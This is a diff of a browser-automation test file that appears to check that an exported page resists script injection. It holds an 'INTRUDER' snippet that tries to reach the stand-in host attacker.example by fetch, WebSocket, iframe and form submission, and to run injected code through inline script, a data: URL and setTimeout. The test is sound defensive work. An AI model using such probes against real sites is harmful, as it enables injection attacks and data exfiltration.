@@ -91,7 +91,7 @@ def test_the_exported_page_shows_letters(opened: Any, attacked_map: ArgumentMap)
     for x in range(10):
         page.mouse.move(box["x"] + box["width"] * x / 10, box["y"] + box["height"] / 2)
         page.mouse.click(box["x"] + box["width"] * x / 10, box["y"] + box["height"] / 2)
-    page.fill("#words", "<script>")
+    page.fill(".am-search", "<script>")
     page.keyboard.press("Tab")
     assert "<script>window.ran=1</script>" in page.inner_text("body")
     assert visit.unharmed()
@@ -105,7 +105,7 @@ INTRUDER = """async what => {
         'a request': () => fetch('https://attacker.example/').catch(() => null),
         'a socket': () => new WebSocket('wss://attacker.example/'),
         'a frame': () => element('iframe', {src: 'https://attacker.example/'}),
-        'a form': () => { element('form', {action: 'https://attacker.example/'}); document.forms[1].submit(); },
+        'a form': () => { element('form', {action: 'https://attacker.example/'}); document.forms[0].submit(); },
         'a script': () => element('script', {textContent: 'window.ran = 1'}),
         'a script from elsewhere': () => element('script', {src: 'data:text/javascript,window.ran=1'}),
         'words as code': () => setTimeout('window.ran = 1', 0),
